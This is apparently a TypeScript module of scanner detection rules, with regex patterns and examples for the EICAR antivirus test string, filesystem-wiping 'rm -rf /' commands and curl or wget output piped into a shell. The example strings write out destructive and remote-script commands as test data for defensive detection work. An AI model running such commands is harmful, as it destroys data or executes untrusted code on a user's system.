import type { Rule } from './rule.js';

/** The EICAR test string in two parts: whole, virus scanners would take this file away. */
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** Code that destroys or loads what should not run. */
export const CODE_RULES: readonly Rule[] = [
  {
    label: 'EICAR_TEST_FILE',
    trigger: { chars: '/|$' },
    pattern: /X5O!P%@AP\[4\\PZX54\(P\^\)7CC\)7\}\$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!\$H\+H\*/g,
    confidence: 1,
    examples: { match: [EICAR, `print('${EICAR}')`], noMatch: ['EICAR-STANDARD-ANTIVIRUS-TEST-FILE'] },
  },
  {
    label: 'DESTRUCTIVE_COMMAND',
    trigger: { chars: '/|$' },
    pattern:
      /(?<![\w-])rm\s{1,4}(?:-(?:rf|fr|Rf|fR)|-[rR]\s{1,4}-f|-f\s{1,4}-[rR])\s{1,4}(?:--no-preserve-root\s{1,4})?\/(?:\*|(?![\w.~-]))/g,
    confidence: 0.9,
    examples: {
      match: ['rm -rf /', 'sudo rm -r -f / ', 'rm -fr --no-preserve-root /', 'rm -rf /*'],
      noMatch: ['rm -rf /tmp/build', 'rm -rf node_modules', 'rm file', 'farm -rf /'],
    },
  },
  {
    label: 'REMOTE_SCRIPT',
    trigger: { chars: '/|$' },
    pattern: /\b(?:curl|wget)\b(?:(?!curl|wget)[^\n|]){1,300}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|da|k)?sh\b/g,
    confidence: 0.8,
    examples: {
      match: ['curl -fsSL https://example.com/x.sh | sh', 'wget -qO- http://x.test/a | sudo bash'],
      noMatch: ['curl https://example.com | jq .', 'curl https://example.com/x.sh', 'cat x | sh'],
    },
  },
];
